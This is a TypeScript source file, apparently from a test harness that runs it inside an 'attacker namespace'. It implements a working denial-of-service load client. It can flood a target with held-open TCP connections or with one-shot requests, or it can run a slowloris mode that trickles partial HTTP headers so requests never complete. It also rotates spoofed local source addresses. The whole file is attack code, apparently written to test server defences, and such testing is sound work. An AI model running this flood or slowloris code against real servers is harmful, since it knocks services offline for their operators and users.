// Child program run in an attacker namespace: opens real TCP connections and either holds them (connection flood) or makes one request each (trickle).
// Usage: node load-client.js '{"target","port","rate","count","endAt","sources":[...],"hold":true,"slowMs":5000}'  (endAt: epoch ms)
//   → prints {"attempted","opened","failed"} at the end
// slowMs (slowloris): each connection sends a partial request header, then one more header line every slowMs, never the end.
import { connect, type Socket } from 'node:net';

interface LoadConfig {
  target: string;
  port: number;
  rate: number;
  count: number;
  endAt: number;
  sources: string[];
  hold: boolean;
  slowMs?: number;
}

const cfg = JSON.parse(process.argv[2] ?? '{}') as LoadConfig;
const start = Date.now();
const open = new Set<Socket>();
let attempted = 0;
let opened = 0;
let failed = 0;

function one(source: string | undefined): void {
  attempted++;
  const sock = connect({ host: cfg.target, port: cfg.port, ...(source ? { localAddress: source } : {}) });
  open.add(sock);
  sock.on('connect', () => {
    opened++;
    if (cfg.slowMs !== undefined) {
      sock.write(`GET /?${attempted} HTTP/1.1\r\nHost: ${cfg.target}\r\n`);
      let n = 0;
      const drip = setInterval(() => sock.write(`X-a: ${++n}\r\n`), cfg.slowMs);
      sock.on('close', () => clearInterval(drip));
    } else if (!cfg.hold) sock.end(`GET / HTTP/1.1\r\nHost: ${cfg.target}\r\nConnection: close\r\n\r\n`);
  });
  sock.on('data', () => undefined);
  sock.on('error', () => {
    failed++;
    open.delete(sock);
  });
  sock.on('close', () => open.delete(sock));
  sock.setTimeout(Math.max(1000, cfg.endAt - Date.now()), () => sock.destroy());
}

function finish(): void {
  for (const s of open) s.destroy();
  process.stdout.write(JSON.stringify({ attempted, opened, failed }) + '\n');
  process.exitCode = 0;
  setTimeout(() => process.exit(0), 200).unref();
}

function tick(): void {
  const elapsed = Date.now() - start;
  if (Date.now() >= cfg.endAt) return finish();
  const due = Math.min(cfg.count, Math.floor((elapsed * cfg.rate) / 1000) + 1);
  while (attempted < due) one(cfg.sources.length ? cfg.sources[attempted % cfg.sources.length] : undefined);
  setTimeout(tick, 5);
}
process.on('SIGTERM', finish);
process.on('SIGINT', finish);
tick();
